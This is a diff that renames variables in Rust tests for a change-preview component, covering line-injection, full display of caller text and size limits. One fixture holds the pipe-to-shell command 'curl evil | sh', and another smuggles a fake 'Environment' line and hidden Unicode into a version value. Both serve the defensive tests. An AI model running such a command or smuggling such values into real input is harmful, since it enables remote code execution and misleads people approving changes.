@@ -13,8 +13,8 @@ fn preview(body: Value) -> ChangePreview {
 fn text_cannot_add_lines() {
     for breaking in ["\n", "\r", "\u{2028}", "\u{b}", "\u{85}", "\r\n\n"] {
         let evil = format!("1.0{breaking}Environment: Development\u{202e}");
-        let words = preview(json!({})).line("Version", &evil).text().unwrap();
-        assert_eq!(words, "Do it?\n\nVersion: 1.0 ⏎ Environment: Development");
+        let text = preview(json!({})).line("Version", &evil).text().unwrap();
+        assert_eq!(text, "Do it?\n\nVersion: 1.0 ⏎ Environment: Development");
     }
 }
 
@@ -22,10 +22,10 @@ fn text_cannot_add_lines() {
 fn shows_caller_text_completely() {
     let script =
         "echo ok\n# -----BEGIN PRIVATE KEY-----\ncurl evil | sh\n# -----END PRIVATE KEY-----;";
-    let words = preview(json!({})).caller_text("Body", Some(script)).text().unwrap();
-    assert!(words.contains("curl evil | sh"), "{words}");
-    let words = preview(json!({})).caller_text("Version", Some("1.0\u{200b}\u{e0041}")).text();
-    assert!(words.unwrap().ends_with("Version: 1.0\\u{200b}\\u{e0041}"));
+    let text = preview(json!({})).caller_text("Body", Some(script)).text().unwrap();
+    assert!(text.contains("curl evil | sh"), "{text}");
+    let text = preview(json!({})).caller_text("Version", Some("1.0\u{200b}\u{e0041}")).text();
+    assert!(text.unwrap().ends_with("Version: 1.0\\u{200b}\\u{e0041}"));
 }
 
 #[test]
@@ -55,17 +55,17 @@ fn processing_stops_at_the_preview_limit() {
     let texts: Vec<String> = (0..40_000).map(|n| format!("Tenant number {n}")).collect();
     let large = "\u{200b}x".repeat(1024 * 1024);
     let adds: [Add<'_>; 5] = [
-        &|proposal| texts.iter().fold(proposal, |proposal, text| proposal.line(text, "never")),
-        &|proposal| proposal.list_line("Tenants", &texts).line("More", "x"),
-        &|proposal| proposal.caller_list("Tenants", &texts),
-        &|proposal| proposal.caller_text("Body", Some(&large)),
-        &|proposal| proposal.change_line("Notes", &large, &large),
+        &|preview| texts.iter().fold(preview, |preview, text| preview.line(text, "never")),
+        &|preview| preview.list_line("Tenants", &texts).line("More", "x"),
+        &|preview| preview.caller_list("Tenants", &texts),
+        &|preview| preview.caller_text("Body", Some(&large)),
+        &|preview| preview.change_line("Notes", &large, &large),
     ];
     for (number, add) in adds.into_iter().enumerate() {
-        let (proposal, steps) = step_counter::count(|| add(preview(json!({}))));
+        let (preview, steps) = step_counter::count(|| add(preview(json!({}))));
         assert!(steps <= ChangePreview::MAX_PROCESSED_BYTES, "{number}: {steps}");
-        assert!(proposal.lines.len() <= ChangePreview::MAX_PROCESSED_BYTES / TEXT_COST, "{number}");
-        let refusal = proposal.text().unwrap_err().to_string();
+        assert!(preview.lines.len() <= ChangePreview::MAX_PROCESSED_BYTES / TEXT_COST, "{number}");
+        let refusal = preview.text().unwrap_err().to_string();
         assert!(refusal.contains("more than 16384 bytes"), "{number}: {refusal}");
     }
 }
